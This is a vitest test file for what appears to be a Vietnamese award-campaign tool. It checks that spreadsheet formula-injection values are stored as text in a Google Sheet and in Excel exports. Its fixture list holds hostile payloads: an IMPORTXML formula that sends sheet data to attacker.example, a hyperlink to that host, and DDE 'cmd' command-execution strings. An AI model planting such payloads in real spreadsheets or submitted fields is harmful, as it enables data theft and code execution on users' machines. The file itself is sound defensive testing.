/**
 * Formula injection: names, units and evidence that start with `=`, `+`, `-` or `@` (a spreadsheet would run
 * `=IMPORTXML(…)` and send the sheet's data away) are stored as text in the council's Google Sheet — values written
 * RAW, the fake keeps each cell's kind — and written as text in every Excel export, read back with exceljs.
 */
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { exportAwardListFile, exportCampaignReportFile as exportCampaignReport, exportScoreSheetFiles as exportScoreSheets } from '../../shared/cli/document-commands.js';
import { CampaignRepository } from '../../shared/store/campaign-repository.js';
import { cellA1 } from '../../shared/google/sheets/a1.js';
import { GoogleSheetsStore } from '../../shared/google/sheets/sheets-store.js';
import { layoutsFor } from '../../shared/store/layouts.js';
import { FakeSheets } from '../fakes/sheets-fake.js';
import { certsHandler, server, tokenAuth, useMsw } from '../functions/harness.js';
import { DISTRICT, rawCollective, rawIndividual, tempDir, vanNinh } from '../support/builders.js';
import { zipEntryText } from '../exports/read-back.js';
import { initCampaign } from '../../shared/jobs/init-campaign.js';
import { intake } from '../../shared/jobs/intake.js';
import { recompute } from '../../shared/jobs/recompute.js';

useMsw();

const NOW = new Date('2024-08-20T03:00:00Z');
const INJECTIONS = [
  '=IMPORTXML("https://attacker.example/?d="&A2;"//a")',
  '+HYPERLINK("https://attacker.example";"Bấm vào đây")',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '=1+1',
];

let fake: FakeSheets;
let id: string;
let store: CampaignRepository;
let dir: string;

beforeAll(async () => {
  fake = new FakeSheets({ seed: 3 });
  server.use(certsHandler(), ...fake.handlers);
  id = fake.createSpreadsheet({ title: 'Thi đua Vạn Ninh' });
  store = await initCampaign(new GoogleSheetsStore({ spreadsheetId: id, auth: tokenAuth() }), vanNinh());
  const evidence = (i: number) => Object.fromEntries(Object.keys(rawIndividual().evidence as object).map((c) => [c, `${INJECTIONS[i % INJECTIONS.length]} (${c})`]));
  const payloads = [
    ...[0, 1, 2].map((i) => rawIndividual({ responseId: `inj-i${i}`, name: INJECTIONS[i], unit: INJECTIONS[(i + 1) % INJECTIONS.length], position: INJECTIONS[(i + 2) % INJECTIONS.length], evidence: evidence(i) })),
    ...[3, 4].map((i) => rawCollective({ responseId: `inj-c${i}`, name: INJECTIONS[i], unit: INJECTIONS[(i + 1) % INJECTIONS.length], evidence: { ...evidence(i), ...Object.fromEntries(Object.keys(rawCollective().evidence as object).map((c) => [c, INJECTIONS[i]])) } })),
    // refused (no scores), so it goes to the rejections tab with its name and unit
    { ...rawIndividual({ responseId: 'inj-rejected', name: INJECTIONS[0], unit: INJECTIONS[3] }), selfScores: { 1: '=2' } },
  ];
  const outcomes = await intake(store, payloads.map((payload) => ({ payload, source: 'test' })), NOW);
  expect(outcomes.map((o) => o.kind)).toEqual(['accepted', 'accepted', 'accepted', 'accepted', 'accepted', 'rejected']);
  await recompute(store, NOW);
  dir = tempDir('thidua-injection-');
});
// the harness resets msw's handlers after each test: the fake answers every test of the file
beforeEach(() => server.use(...fake.handlers));

/** Every stored cell of a tab that holds one of the injections: its kind as the fake keeps it. */
function injectedCells(tab: string): Array<{ a1: string; kind: string }> {
  const rows = fake.values(id, `'${tab}'`);
  const found: Array<{ a1: string; kind: string }> = [];
  rows.forEach((row, r) =>
    row.forEach((value, c) => {
      const text = typeof value === 'object' && value !== null ? value.formula : String(value ?? '');
      if (!INJECTIONS.some((i) => text.includes(i.slice(1, 8)))) return;
      const a1 = cellA1(tab, c, r + 1);
      found.push({ a1, kind: fake.cell(id, a1)?.kind ?? 'empty' });
    }),
  );
  return found;
}

describe('formula injection', () => {
  test.each(['nominations', 'rejections', 'results', 'audit'] as const)('the Google Sheet keeps every such value as text (tab %s)', (tabId) => {
    const tab = layoutsFor(vanNinh()).get(tabId)!.title;
    const cells = injectedCells(tab);
    if (tabId !== 'audit') expect(cells.length).toBeGreaterThan(0);
    expect(cells.filter((c) => c.kind !== 'text')).toEqual([]);
  });

  /** Every cell of every worksheet of the files, read back: none is a formula that carries an injected text. */
  async function checkWorkbooks(files: string[]): Promise<number> {
    let seen = 0;
    for (const file of files) {
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.readFile(file);
      wb.eachSheet((ws) =>
        ws.eachRow((row) =>
          row.eachCell((cell) => {
            const v = cell.value;
            const text = v && typeof v === 'object' && 'richText' in v ? v.richText.map((t) => t.text).join('') : v && typeof v === 'object' && 'formula' in v ? String(v.formula) : String(v ?? '');
            if (!INJECTIONS.some((i) => text.includes(i.slice(1, 8)))) return;
            seen += 1;
            expect(cell.type, `${file} ${ws.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
            expect(typeof v === 'string' || (typeof v === 'object' && v !== null && 'richText' in v), `${ws.name}!${cell.address}`).toBe(true);
          }),
        ),
      );
      // and in the file itself: no formula element at all carries them
      for (let n = 1; n <= wb.worksheets.length; n++) {
        const xml = zipEntryText(file, `xl/worksheets/sheet${n}.xml`);
        for (const f of xml.match(/<f>[^<]*<\/f>/g) ?? []) for (const i of INJECTIONS) expect(f).not.toContain(i.slice(1, 8));
      }
    }
    return seen;
  }

  test('the award list (proposal and decision) writes them as text', async () => {
    const files = [
      await exportAwardListFile(store, DISTRICT, { out: join(dir, 'de-nghi.xlsx'), variant: 'proposal', year: 2024, now: NOW }),
      await exportAwardListFile(store, DISTRICT, { out: join(dir, 'quyet-dinh.xlsx'), variant: 'decision', year: 2024, now: NOW }),
    ];
    expect(await checkWorkbooks(files)).toBeGreaterThanOrEqual(2 * 5);
  });

  test('the score sheets (one workbook, and one file each) write them as text', async () => {
    const one = await exportScoreSheets(store, { oneWorkbook: true, out: join(dir, 'bang-cham-diem.xlsx') });
    const each = await exportScoreSheets(store, { out: join(dir, 'bang-cham-diem') });
    expect(readdirSync(join(dir, 'bang-cham-diem'))).toHaveLength(5);
    expect(await checkWorkbooks([...one, ...each])).toBeGreaterThan(20);
  });

  test('the campaign report writes them as text', async () => {
    const file = await exportCampaignReport(store, { out: join(dir, 'bao-cao.xlsx'), now: NOW });
    expect(await checkWorkbooks([file])).toBeGreaterThan(0);
  });
});
